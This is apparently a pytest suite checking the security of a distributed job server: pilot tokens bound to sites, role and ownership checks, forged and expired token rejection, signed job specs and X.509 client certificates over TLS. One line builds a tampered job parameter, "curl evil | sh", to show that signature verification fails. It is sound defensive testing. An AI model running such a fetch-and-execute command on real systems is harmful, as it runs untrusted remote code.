"""Security basics over real HTTP(S): roles, site-bound pilot tokens, ownership, X.509 client
certificates over TLS (a test CA made here with cryptography), the identity recorded with what it
did, and job-spec signatures verifiable with the published key."""
from __future__ import annotations

import base64
import json
import shutil
import subprocess
from pathlib import Path

import pytest
import requests
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.serialization import load_pem_public_key

from compatkit import SITE, CertAuthority, dn, start_tls_server, stop_process
from panda_core.client import ApiClient
from testkit import EXAMPLE_SITES

OTHER = "OTHER_SITE"
TASK = {"name": "sec", "transformation": "/bin/true", "n_jobs": 2}


def pilot(server_url, method, token=None, cert=None, verify=None, **form):
    headers = {"Accept": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    resp = requests.post(f"{server_url}/server/panda/{method}", data=form, headers=headers,
                         cert=cert, verify=verify if verify is not None else True, timeout=10)
    assert resp.status_code == 200, resp.text
    return resp.json()


@pytest.fixture
def two_sites(tmp_path) -> Path:
    sites = tmp_path / "sites"
    sites.mkdir()
    shutil.copy(EXAMPLE_SITES / f"{SITE}.yaml", sites)
    text = (EXAMPLE_SITES / f"{SITE}.yaml").read_text().replace(f"name: {SITE}", f"name: {OTHER}")
    (sites / f"{OTHER}.yaml").write_text(text)
    return sites


@pytest.fixture
def token_server(tmp_path, two_sites, monkeypatch):
    from testkit import start_server, stop_server
    monkeypatch.setenv("PANDA_SE_ROOT", str(tmp_path / "se"))
    server = start_server(tmp_path / "srv", site_dir=two_sites)
    yield server
    stop_server(server)


def test_pilot_token_bound_to_its_site(token_server):
    s = token_server
    alice = ApiClient(s.url, s.token("user", "alice"))
    alice.submit_task({**TASK, "site": SITE})
    other_task = alice.submit_task({**TASK, "site": OTHER})
    bound = s.token("pilot", "wn-local", site=SITE)
    reply = pilot(s.url, "getJob", bound, siteName=OTHER)
    assert reply["StatusCode"] == 70 and "may not take jobs of OTHER_SITE" in reply["errorDialog"]
    assert pilot(s.url, "getJob", bound, siteName=SITE)["StatusCode"] == 0
    # a job at the other site, taken by an unbound pilot, may not be updated with the bound token
    job = pilot(s.url, "getJob", s.token("pilot", "wn-any"), siteName=OTHER)
    reply = pilot(s.url, "updateJob", bound, jobId=job["PandaID"], state="failed",
                  pilotErrorCode="1099")
    assert reply["StatusCode"] == 70 and "may not update jobs of OTHER_SITE" in reply["errorDialog"]
    statuses = alice.task_details(other_task)["jobs"]
    assert statuses == {"activated": 1, "sent": 1}


def test_roles_and_missing_or_forged_tokens(token_server):
    s = token_server
    alice = ApiClient(s.url, s.token("user", "alice"))
    alice.submit_task({**TASK, "site": SITE})
    assert pilot(s.url, "getJob", siteName=SITE)["StatusCode"] == 50
    reply = pilot(s.url, "getJob", "forged.token", siteName=SITE)
    assert reply["StatusCode"] == 50 and "malformed" in reply["errorDialog"]
    # a JWT in this server's name, signed with another key
    from server.auth import KeyStore
    forged = KeyStore(s.key_dir.parent / "other-keys").issue_token("wn", "pilot")
    reply = pilot(s.url, "getJob", forged, siteName=SITE)
    assert reply["StatusCode"] == 50 and "does not verify" in reply["errorDialog"]
    reply = pilot(s.url, "getJob", s.token("user", "alice"), siteName=SITE)
    assert reply["StatusCode"] == 60 and "role user may not getJob" in reply["errorDialog"]
    api = f"{s.url}/api/v1"
    resp = requests.post(f"{api}/task/submit", json={"task_parameters": TASK}, timeout=5,
                         headers={"Authorization": f"Bearer {s.token('pilot', 'p')}"})
    assert resp.status_code == 403 and "role pilot may not" in resp.json()["message"]
    resp = requests.post(f"{api}/site/sync", json={"sites": []}, timeout=5,
                         headers={"Authorization": f"Bearer {s.token('user', 'alice')}"})
    assert resp.status_code == 403
    # an expired token is refused (beyond the minute of clock skew allowed)
    expired = KeyStore(s.key_dir).issue_token("alice", "user", lifetime_s=-120)
    resp = requests.post(f"{api}/task/submit", json={"task_parameters": TASK}, timeout=5,
                         headers={"Authorization": f"Bearer {expired}"})
    assert resp.status_code == 403 and "expired" in resp.json()["message"]
    assert [t["taskName"] for t in alice.call("task", "list")] == ["sec"]


def test_users_kill_only_their_own_admin_kills_all(token_server):
    s = token_server
    alice = ApiClient(s.url, s.token("user", "alice"))
    bob = ApiClient(s.url, s.token("user", "bob"))
    admin = ApiClient(s.url, s.token("admin", "root-op"))
    t1 = alice.submit_task({**TASK, "site": SITE})
    t2 = alice.submit_task({**TASK, "name": "sec2", "site": SITE})
    jobs = alice.call("task", "get_job_ids", task_id=t1)
    assert bob.call("job", "kill", "POST", job_ids=jobs) == [False, False]
    resp = requests.post(f"{s.url}/api/v1/task/kill", json={"task_id": t1}, timeout=5,
                         headers={"Authorization": f"Bearer {s.token('user', 'bob')}"})
    assert resp.status_code == 200 and resp.json()["success"] is False
    assert "permission denied: task" in resp.json()["message"]
    assert alice.task_details(t1)["jobs"] == {"activated": 2}
    assert alice.call("job", "kill", "POST", job_ids=jobs[:1]) == [True]
    admin.call("task", "kill", "POST", task_id=t2)
    assert alice.task_details(t2)["status"] == "aborted"
    history = alice.call("job", "get_history", job_id=jobs[0])
    assert history[-1]["new_status"] == "cancelled" and history[-1]["actor"] == "alice"
    killed = alice.call("job", "get_history", job_id=alice.call("task", "get_job_ids",
                                                                 task_id=t2)[0])
    assert killed[-1]["actor"] == "root-op"


def test_job_spec_signature_verifies_with_published_key(token_server):
    s = token_server
    ApiClient(s.url, s.token("user", "alice")).submit_task({**TASK, "site": SITE})
    pem_well_known = requests.get(f"{s.url}/.well-known/panda-jobspec-key.pem", timeout=5).text
    pem_api = requests.get(f"{s.url}/api/v1/system/get_public_key", timeout=5).json()["data"]
    assert pem_well_known == pem_api and "BEGIN PUBLIC KEY" in pem_api
    key = load_pem_public_key(pem_api.encode())
    job = pilot(s.url, "getJob", s.token("pilot", "p", site=SITE), siteName=SITE)
    job.pop("StatusCode")
    signature = base64.b64decode(job.pop("specSignature"))
    canonical = json.dumps(job, sort_keys=True, separators=(",", ":")).encode()
    key.verify(signature, canonical)
    tampered = dict(job, jobPars="-c 'curl evil | sh'")
    with pytest.raises(InvalidSignature):
        key.verify(signature, json.dumps(tampered, sort_keys=True, separators=(",", ":")).encode())


# ---------------------------------------------------------------------- X.509 over TLS
@pytest.fixture
def tls_server(tmp_path, two_sites, monkeypatch):
    monkeypatch.setenv("PANDA_SE_ROOT", str(tmp_path / "se"))
    ca = CertAuthority(tmp_path / "pki")
    url, proc = start_tls_server(tmp_path, two_sites, ca, admin_dns=[dn("operator")],
                                 pilot_dns=[dn("pilot-wn")])
    yield url, ca, tmp_path
    stop_process(proc)


def test_x509_identity_is_recorded_with_what_it_did(tls_server):
    url, ca, _ = tls_server
    verify = str(ca.ca_file)
    alice, bob = ca.issue("alice"), ca.issue("bob")
    operator, wn = ca.issue("operator"), ca.issue("pilot-wn")

    def api(cert, method, path, **body):
        resp = requests.request(method, f"{url}/api/v1/{path}", cert=cert, verify=verify,
                                timeout=10, **({"json": body} if method == "POST" else
                                               {"params": body}))
        return resp.status_code, resp.json()

    status, who = api(alice, "GET", "system/whoami")
    assert who["data"] == {"subject": dn("alice"), "role": "user", "site": None}
    assert api(operator, "GET", "system/whoami")[1]["data"]["role"] == "admin"
    # without a certificate: reads yes, writes no
    status, reply = api(None, "POST", "task/submit", task_parameters={**TASK, "site": SITE})
    assert reply["success"] is False and "secure connection required" in reply["message"]
    status, reply = api(alice, "POST", "task/submit", task_parameters={**TASK, "site": SITE})
    assert reply["success"], reply
    task_id = reply["data"]
    status, task = api(alice, "GET", "task/get_details", task_id=task_id)
    assert task["data"]["owner"] == dn("alice")
    # the user certificate may not take jobs; the pilot certificate may, and is recorded
    assert pilot(url, "getJob", cert=alice, verify=verify, siteName=SITE)["StatusCode"] == 60
    job = pilot(url, "getJob", cert=wn, verify=verify, siteName=SITE)
    assert job["StatusCode"] == 0
    assert pilot(url, "updateJob", cert=wn, verify=verify, jobId=job["PandaID"],
                 state="running")["StatusCode"] == 0
    status, hist = api(alice, "GET", "job/get_history", job_id=job["PandaID"])
    assert [(h["new_status"], h["actor"]) for h in hist["data"]] == [
        ("defined", dn("alice")), ("activated", "brokerage"), ("sent", dn("pilot-wn")),
        ("running", dn("pilot-wn"))]
    # bob may not kill alice's task; the operator (admin DN) may
    status, reply = api(bob, "POST", "task/kill", task_id=task_id)
    assert reply["success"] is False and "permission denied" in reply["message"]
    status, reply = api(operator, "POST", "task/kill", task_id=task_id)
    assert reply["success"] is True
    status, hist = api(alice, "GET", "job/get_history", job_id=job["PandaID"])
    assert hist["data"][-1]["actor"] == dn("operator")


def test_x509_certificate_from_unknown_ca_is_refused(tls_server):
    url, ca, tmp = tls_server
    rogue = CertAuthority(tmp / "rogue", cn="rogue CA").issue("alice")   # same DN, other CA
    try:
        resp = requests.post(f"{url}/api/v1/task/submit", cert=rogue, verify=str(ca.ca_file),
                             json={"task_parameters": {**TASK, "site": SITE}}, timeout=10)
    except requests.exceptions.SSLError:   # the server ends the handshake (alert or EOF)
        pass
    else:   # had the handshake passed, the caller must still be unknown
        assert resp.json()["success"] is False
    resp = requests.get(f"{url}/api/v1/task/list", cert=ca.issue("alice2"),
                        verify=str(ca.ca_file), timeout=5)
    assert resp.json()["data"] == []      # nothing was created


def test_panda_client_over_https_with_x509(tls_server, compat_venv):
    """PanDA's own client with a grid-style proxy file (certificate, key, CA chain in one PEM)."""
    url, ca, tmp = tls_server
    cert, key = ca.issue("carol")
    proxy = tmp / "x509up_carol"
    proxy.write_bytes(cert.read_bytes() + key.read_bytes() + ca.ca_file.read_bytes())
    proxy.chmod(0o600)
    script = Path(__file__).with_name("pandaclient_roundtrip.py")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp), "PANDA_CONFIG_ROOT": str(tmp),
           "PANDA_URL_SSL": url + "/server/panda", "PANDA_URL": url + "/server/panda",
           "PANDACACHE_URL": url + "/server/panda", "PANDA_BEHIND_REAL_LB": "1",
           "X509_USER_PROXY": str(proxy), "X509_CERT_DIR": str(tmp / "no-such-dir")}
    proc = subprocess.run([str(compat_venv / "bin" / "python"), str(script), SITE, "jobs"],
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    res = json.loads(proc.stdout.strip().splitlines()[-1])
    assert res["submit"][0] == 0 and len(res["submit"][1]) == 2
    assert {j["prodUserName"] for j in res["status"][1][:2]} == {dn("carol")}
    assert res["kill"] == [0, [True]]
